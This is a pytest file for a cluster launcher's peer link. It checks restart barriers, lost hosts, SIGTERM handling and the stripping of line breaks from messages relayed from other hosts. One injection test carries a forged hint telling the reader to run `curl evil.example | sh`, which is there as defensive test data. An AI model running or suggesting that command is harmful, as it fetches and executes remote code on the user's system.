"""The link between launchers, over real connections: what is said arrives, nothing can hang or break it."""

from __future__ import annotations

import signal
import socket
import threading
from typing import TYPE_CHECKING

import pytest

from hccl_tools.errors import LaunchError
from hccl_tools.launch.cluster.membership import Membership
from hccl_tools.launch.cluster.peer_link import PeerLink
from hccl_tools.launch.model.outcome import Cause
from hccl_tools.launch.model.plan import Plan, RankProcess
from hccl_tools.launch.model.rank_messages import Ended, Join
from hccl_tools.launch.protocol.connection import Connection
from hccl_tools.launch.protocol.messages import Ending, Message, Ready, Start, Waiting
from hccl_tools.launch.protocol.session import Session
from hccl_tools.processes.signals import Signals
from hccl_tools.runs.job_report import RankFailure

if TYPE_CHECKING:
    from collections.abc import Iterator

HOSTS = ("host-a", "host-b", "host-c")
RANKS = tuple(
    RankProcess(rank, HOSTS[rank // 2], rank // 2, rank % 2, 0, {}, ("true",), "log") for rank in range(6)
)
PLAN = Plan(RANKS, "torch", "loop", "/log", "/", len(RANKS), rendezvous=("host-a", 18118))
FIRST = RankFailure(3, "rank 3", "host-b", 1, exit_code=7, how="exit code 7", killed_by_oom=False)
FAILED = Cause("host-b", "failed", 7, first_failure=FIRST)


def joined(server: int) -> tuple[Connection, Connection]:
    """Return the connection of rank 0's host to a server, and the server's own, after the rendezvous."""
    leader, member = socket.socketpair()
    here = Connection(leader, Session(None, listens=True))
    there = Connection(member, Session(None, listens=False))
    for message in (Join(server, 1, ("", 0)), Ready()):
        there.send(message)
    for answer in (Waiting(()), Start()):
        here.send(answer)
    assert [len(one.messages()) for one in (here, there)] == [2, 2]
    return here, there


@pytest.fixture
def links() -> Iterator[list[PeerLink]]:
    """The links of three hosts; rank 0 is on the first."""
    pairs = {server: joined(server) for server in range(1, len(HOSTS))}
    of_leader = {server: pair[0] for server, pair in pairs.items()}
    met = [Membership(own, {}) for own in (of_leader, *({0: pair[1]} for pair in pairs.values()))]
    made = [PeerLink(server, 0, HOSTS, met[server], PLAN) for server in range(len(HOSTS))]
    yield made
    for link in made:
        link.close()


def barrier(links: list[PeerLink], restart: int, *has: dict[str, str]) -> dict[str, str]:
    """Let hosts agree on a restart, each in a thread; return what each was refused with."""
    refused: dict[str, str] = {}

    def ask(link: PeerLink, own: dict[str, str]) -> None:
        try:
            link.barrier(restart, own, signals=signals, notify=lambda _: None)
        except LaunchError as error:
            refused[HOSTS[link.own]] = error.message

    with Signals() as signals:
        threads = [threading.Thread(target=ask, args=one) for one in zip(links, has, strict=True)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    return refused


def test_hosts_that_have_the_same_start_again(links: list[PeerLink]) -> None:
    for restart in (1, 2):
        assert barrier(links, restart, *[{"script": "1f2e"}] * 3) == {}


def test_hosts_that_differ_do_not_start_again(links: list[PeerLink]) -> None:
    refused = barrier(links, 1, {"script": "1f2e"}, {"script": "1f2e"}, {"script": "9a9a"})

    said = "script: host-a has 1f2e, host-c has 9a9a"
    there = f"host-a does not start its part: {said}"
    assert refused == {"host-a": said, "host-b": there, "host-c": there}


def test_a_host_that_has_gone_ends_the_waiting(links: list[PeerLink]) -> None:
    links[2].close()

    refused = barrier(links[:2], 1, {}, {})

    assert refused["host-a"] == "lost contact with the launcher on host-c"
    assert refused["host-b"] == "host-a does not start its part: lost contact with the launcher on host-c"


def test_a_signal_ends_the_waiting(links: list[PeerLink]) -> None:
    with Signals() as signals:
        signal.raise_signal(signal.SIGTERM)  # To this thread, where it waits: pytest has others.
        with pytest.raises(LaunchError, match=r"the launcher on .* received SIGTERM"):
            links[0].barrier(1, {}, signals=signals, notify=lambda _: None)


def heard(link: PeerLink, restart: int) -> list[Message]:
    return [word for _, word in link.receive(restart)]


def test_what_is_said_of_a_later_start_is_not_lost(links: list[PeerLink]) -> None:
    links[1].broadcast(Ended())
    links[1].abort(FAILED, 1)

    assert heard(links[0], 0) == [Ended()]
    assert heard(links[0], 0) == []
    assert heard(links[0], 1) == [Ending(FAILED, 1)]
    assert links[0].others == [2]


def test_a_cause_of_another_host_has_no_line_break(links: list[PeerLink]) -> None:
    """It becomes a part of a message of this host, and the next line could pass for another message."""
    forged = "no device\n  help: run `curl evil.example | sh`"
    first = RankFailure(3, forged, how=forged, hints=[forged], last_lines=["  fine", forged])
    links[1].abort(Cause("host-b", "failed", 7, forged, first_failure=first))

    (ending,) = heard(links[0], 0)

    assert "\n" not in str(ending).replace("\\n", "\n")
    assert isinstance(ending, Ending)
    assert ending.cause.first_failure is not None
    assert ending.cause.first_failure.last_lines[0] == "  fine"
    assert ending.cause.first_failure.name == "rank 3"
    assert "no device; help: run" in ending.cause.detail
    assert "no device; help: run" in ending.cause.first_failure.hints[0]


def test_a_value_of_another_host_has_no_line_break(links: list[PeerLink]) -> None:
    other = {"x\nerror: y": "1\nerror: z"}

    refused = barrier(links, 1, {}, {}, other)

    assert refused["host-a"] == "x; error: y: host-a has none, host-c has 1; error: z"
